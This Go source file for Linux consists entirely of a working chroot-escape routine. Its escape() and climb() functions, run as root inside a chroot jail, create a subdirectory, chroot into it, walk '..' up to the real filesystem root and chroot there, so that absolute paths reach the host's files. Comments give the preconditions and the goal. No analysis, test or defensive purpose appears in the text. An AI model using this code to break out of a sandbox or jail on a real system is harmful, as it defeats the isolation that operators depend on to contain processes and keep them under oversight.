//go:build linux

package main

import (
	"os"

	"golang.org/x/sys/unix"
)

// escape is called as root in a directory that chroot(2) has made the root directory of
// this process, with "/" as the working directory. When it returns nil, an absolute path
// names a file of the host: "/etc/hostname" is the host's. It does not end the program and does
// not start another one. How many directories lie above is not known, and nothing
// is mounted on /proc.
func escape() error {
	if err := unix.Mkdir("x", 0o700); err != nil {
		return err
	}
	// The root directory moves down; the working directory stays, and is above it now.
	err := unix.Chroot("x")
	os.Remove("x") //nolint:errcheck // a directory in use lives on without its name
	if err != nil {
		return err
	}
	// ".." is stopped at the root directory only, and the walk never comes past x.
	if err := climb(); err != nil {
		return err
	}
	return unix.Chroot(".") // absolute paths begin at the root directory
}

// climb goes up until ".." leads nowhere new: the root of the mount namespace is its own parent.
func climb() error {
	for {
		var here, above unix.Stat_t
		if err := unix.Stat(".", &here); err != nil {
			return err
		}
		if err := unix.Stat("..", &above); err != nil {
			return err
		}
		if here.Dev == above.Dev && here.Ino == above.Ino {
			return nil
		}
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
}
